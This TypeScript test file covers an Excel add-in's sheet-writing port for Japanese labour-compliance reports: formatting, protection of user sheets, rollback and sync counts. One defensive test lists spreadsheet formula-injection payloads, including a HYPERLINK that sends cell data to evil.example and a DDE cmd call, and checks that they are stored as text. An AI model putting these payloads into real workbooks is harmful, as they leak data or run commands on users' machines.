/**
 * Writing through OfficeWorkbookPort: content and looks, the user's sheets untouched, reruns, all-or-nothing,
 * formula injection, and a sync count that does not grow with the rows.
 */
import { OfficeHostError } from '../../../src/host/officejs/errors';
import type { SheetLayout } from '../../../src/report/layout';
import { FakeExcel, PAYLOAD_LIMIT } from '../../support/fake-excel';
import {
  CHECKLIST,
  ISSUES,
  LAW36,
  SUMMARY,
  checklistLayout,
  issuesLayout,
  law36Layout,
  makePort,
  summaryLayout,
  userSheets,
  userWorkbook,
} from './fixtures';

const USER = ['勤怠', '休暇'];
const OPTIONS = { keepIfPresent: [CHECKLIST], activate: SUMMARY };

function report(title?: string, employees = 3): SheetLayout[] {
  return [summaryLayout(title), law36Layout(employees), issuesLayout(['9;00']), checklistLayout()];
}

function markerNames(fake: FakeExcel): [string, string][] {
  return [...fake.names.entries()].filter(([n]) => n.startsWith('WLBChecker_')).sort();
}

describe('OfficeWorkbookPort.writeSheets', () => {
  it('writes values, formats, looks, links and a chart, and leaves the user sheets as they were', async () => {
    const fake = userWorkbook();
    const before = fake.snapshot();
    const { port } = makePort(fake);
    const result = await port.writeSheets(report(), OPTIONS);

    expect(fake.sheets.map((s) => s.name)).toEqual([...USER, SUMMARY, LAW36, ISSUES, CHECKLIST]);
    expect(result.sheetNames).toEqual({ [SUMMARY]: SUMMARY, [LAW36]: LAW36, [ISSUES]: ISSUES, [CHECKLIST]: CHECKLIST });
    expect(userSheets(fake.snapshot(), USER)).toEqual(userSheets(before, USER));

    // 2026-03-31 is serial 46112 in the 1900 system (2026-04-01 = 46113), shown as yyyy/m/d.
    expect(fake.cell(SUMMARY, 'B2')).toMatchObject({ value: 46112, numberFormat: 'yyyy/m/d' });
    expect(fake.cell(SUMMARY, 'C4')).toMatchObject({ value: 31.25, numberFormat: '0.0' });
    expect(fake.cell(SUMMARY, 'C5')).toMatchObject({ value: 0.75, numberFormat: '0.0%' });
    // A month label stays the text 2025-04 (Excel would otherwise make it a date).
    expect(fake.cell(SUMMARY, 'A8')).toMatchObject({ value: '2025-04' });
    expect(fake.cell(SUMMARY, 'A8')?.formula).toBeUndefined();
    expect(fake.cell(SUMMARY, 'A1')).toMatchObject({ value: 'WLB基準 チェック結果', bold: true, fontSize: 14 });
    expect(fake.cell(SUMMARY, 'C3')).toMatchObject({
      value: '実績',
      fill: '#DDEBF7',
      horizontal: 'Center',
      bold: true,
    });
    expect(fake.cell(SUMMARY, 'C3')?.borders).toEqual({
      EdgeTop: 'Continuous',
      EdgeBottom: 'Continuous',
      EdgeLeft: 'Continuous',
      EdgeRight: 'Continuous',
      InsideHorizontal: 'Continuous',
      InsideVertical: 'Continuous',
    });
    expect(fake.cell(SUMMARY, 'D5')).toMatchObject({ value: '達成', fill: '#C6EFCE', fontColor: '#006100' });
    expect(fake.cell(SUMMARY, 'E4')?.hyperlink).toEqual({
      documentReference: `'${LAW36}'!A1`,
      textToDisplay: '36協定チェック',
    });

    const summary = fake.sheet(SUMMARY);
    expect(summary.merges).toEqual(['A1:E1']);
    // Widths in characters → points: (12 × 7 + 5) × 0.75 = 66.75, (24 × 7 + 5) × 0.75 = 129.75, (10 × 7 + 5) × 0.75 = 56.25.
    expect([...summary.columnWidths.entries()]).toEqual([
      [0, 66.75],
      [1, 129.75],
      [2, 56.25],
    ]);
    expect(summary.freeze).toEqual({ rows: 3, columns: 0 });
    expect(summary.tabColor).toBe('#2F5597');
    expect(summary.charts).toEqual([
      {
        type: 'Line',
        sourceSheetId: summary.id,
        sourceArea: 'A7:B9',
        seriesBy: 'Columns',
        title: '月平均時間外労働',
        position: { start: 'A11', end: 'H26' },
      },
    ]);
    expect(fake.sheet(LAW36).freeze).toEqual({ rows: 1, columns: 2 });
    // 45.5 + ((1 + 0) mod 7) × 0.25 = 45.75 for employee 1 in 2025-04.
    expect(fake.cell(LAW36, 'C2')).toMatchObject({ value: 45.75, numberFormat: '0.0', fill: '#FFFFFF' });
    expect(fake.cell(LAW36, 'A2')).toMatchObject({ value: 'E0001' });

    expect(markerNames(fake)).toEqual([
      ['WLBChecker_1', `=${SUMMARY}!$A$1`],
      // A sheet name starting with a digit needs quotes in a reference.
      ['WLBChecker_2', `='${LAW36}'!$A$1`],
      ['WLBChecker_3', `=${ISSUES}!$A$1`],
      ['WLBChecker_4', `=${CHECKLIST}!$A$1`],
    ]);
    expect(fake.sheets.find((s) => s.id === fake.activeSheetId)?.name).toBe(SUMMARY);
    expect(fake.sheets.some((s) => s.name.startsWith('~wlb'))).toBe(false);
  });

  it('writes dates as 1904-system serials in a 1904 workbook', async () => {
    const fake = userWorkbook();
    fake.use1904DateSystem = true;
    const { port } = makePort(fake);
    await port.writeSheets([summaryLayout()]);
    // 46112 − 1462 days between the two epochs = 44650.
    expect(fake.cell(SUMMARY, 'B2')?.value).toBe(44650);
  });

  it('never touches a user sheet named WLB基準サマリー: the checker uses "WLB基準サマリー (2)" and links follow', async () => {
    const fake = userWorkbook([SUMMARY]);
    fake.setCells(SUMMARY, 'A1', [['私のメモ'], [123]]);
    const before = fake.snapshot();
    const { port } = makePort(fake);

    const first = await port.writeSheets(report(), OPTIONS);
    expect(first.sheetNames[SUMMARY]).toBe(`${SUMMARY} (2)`);
    expect(userSheets(fake.snapshot(), [...USER, SUMMARY])).toEqual(userSheets(before, [...USER, SUMMARY]));
    // The 36協定 sheet links back to the summary: the link now points at the checker's renamed sheet.
    expect(fake.cell(LAW36, 'A1')?.hyperlink?.documentReference).toBe(`'${SUMMARY} (2)'!A1`);
    expect(fake.cell(`${SUMMARY} (2)`, 'A1')?.value).toBe('WLB基準 チェック結果');

    const second = await port.writeSheets(report('二回目'), OPTIONS);
    expect(second.sheetNames[SUMMARY]).toBe(`${SUMMARY} (2)`);
    expect(fake.sheets.map((s) => s.name)).toEqual([...USER, SUMMARY, CHECKLIST, `${SUMMARY} (2)`, LAW36, ISSUES]);
    expect(fake.cell(`${SUMMARY} (2)`, 'A1')?.value).toBe('二回目');
    expect(userSheets(fake.snapshot(), [...USER, SUMMARY])).toEqual(userSheets(before, [...USER, SUMMARY]));
  });

  it('replaces its own sheets on a rerun, without duplicates, and keeps the checklist answers', async () => {
    const fake = userWorkbook();
    const { port } = makePort(fake);
    await port.writeSheets(report('一回目'), OPTIONS);
    fake.setCells(CHECKLIST, 'C2', [['はい']]);

    const result = await port.writeSheets(report('二回目', 5), OPTIONS);
    expect(result.sheetNames[CHECKLIST]).toBe(CHECKLIST);
    expect(fake.sheets.map((s) => s.name).sort()).toEqual([...USER, SUMMARY, LAW36, ISSUES, CHECKLIST].sort());
    expect(fake.cell(SUMMARY, 'A1')?.value).toBe('二回目');
    expect(fake.cell(LAW36, 'A6')?.value).toBe('E0005');
    expect(fake.cell(CHECKLIST, 'C2')?.value).toBe('はい');
    // One mark per checker sheet; the replaced sheets' marks are gone.
    const marks = markerNames(fake);
    expect(marks.map(([, f]) => f).sort()).toEqual(
      [`=${SUMMARY}!$A$1`, `='${LAW36}'!$A$1`, `=${ISSUES}!$A$1`, `=${CHECKLIST}!$A$1`].sort(),
    );
  });

  it('leaves the workbook exactly as it was when any sync of the write fails, with a Japanese message', async () => {
    const setUp = async () => {
      const fake = userWorkbook();
      await makePort(fake).port.writeSheets(report('一回目'), OPTIONS);
      fake.setCells(CHECKLIST, 'C2', [['はい']]);
      fake.resetCounters();
      return fake;
    };
    const clean = await setUp();
    await makePort(clean).port.writeSheets(report('二回目'), OPTIONS);
    const syncs = clean.syncCount;
    // date system (1), plan (1), build (1), swap (1), delete the replaced sheets (1).
    expect(syncs).toBe(5);

    // Sync 1 asks for the date system, whose failure falls back to 1900 by design; every later one must roll back.
    for (let n = 2; n <= syncs; n++) {
      const fake = await setUp();
      const before = fake.snapshot();
      fake.failOnSync(n);
      const err = await makePort(fake)
        .port.writeSheets(report('二回目'), OPTIONS)
        .catch((e: unknown) => e);
      expect(err).toBeInstanceOf(OfficeHostError);
      expect((err as OfficeHostError).code).toBe('WriteFailed');
      expect((err as Error).message).toContain('ブックは何も変更していません');
      expect(fake.snapshot()).toEqual(before);
    }
  });

  it('stores hostile text as text, never as a formula', async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
      "=cmd|' /C calc'!A0",
      '+SUM(1,2)',
      '-2+3',
      '@SUM(A1)',
      '007',
      'TRUE',
      "'先頭がアポストロフィ",
    ];
    const fake = userWorkbook();
    await makePort(fake).port.writeSheets([issuesLayout(hostile)]);
    hostile.forEach((text, i) => {
      const cell = fake.cell(ISSUES, `C${i + 2}`);
      expect(cell?.formula).toBeUndefined();
      expect(cell?.value).toBe(text);
    });
  });

  it('uses the same number of syncs for 10 and for 1,000 employees, each request under 5 MB', async () => {
    const syncsFor = async (employees: number) => {
      const fake = userWorkbook();
      await makePort(fake).port.writeSheets([summaryLayout(), law36Layout(employees)], OPTIONS);
      expect(fake.cell(LAW36, `A${employees + 1}`)?.value).toBe(`E${String(employees).padStart(4, '0')}`);
      for (const s of fake.syncLog) expect(s.requestBytes).toBeLessThanOrEqual(PAYLOAD_LIMIT);
      return fake.syncCount;
    };
    expect(await syncsFor(1_000)).toBe(await syncsFor(10));
  });

  it('splits a large write over several requests within the budget and writes the same sheet', async () => {
    const whole = userWorkbook();
    await makePort(whole).port.writeSheets([law36Layout(1_000)]);
    const split = userWorkbook();
    await makePort(split, { requestBudget: 60_000 }).port.writeSheets([law36Layout(1_000)]);

    expect(split.syncCount).toBeGreaterThan(whole.syncCount);
    // The budget counts data bytes; each request's JSON envelope stays within a small margin of it.
    for (const s of split.syncLog) expect(s.requestBytes).toBeLessThanOrEqual(90_000);
    const strip = (snapshot: unknown) => (snapshot as { sheets: unknown[] }).sheets;
    expect(strip(split.snapshot())).toEqual(strip(whole.snapshot()));
  });

  it('retries when the user is editing a cell mid-write, then succeeds with nothing left over', async () => {
    const fake = userWorkbook();
    const { port, sleeps } = makePort(fake);
    fake.failOnSync(
      3,
      'InvalidOperationInCellEditMode',
      'The operation is not allowed while Excel is in cell-editing mode.',
    );
    await port.writeSheets(report(), OPTIONS);
    expect(sleeps).toEqual([300]);
    expect(fake.sheets.map((s) => s.name)).toEqual([...USER, SUMMARY, LAW36, ISSUES, CHECKLIST]);
    expect(markerNames(fake)).toHaveLength(4);
  });
});
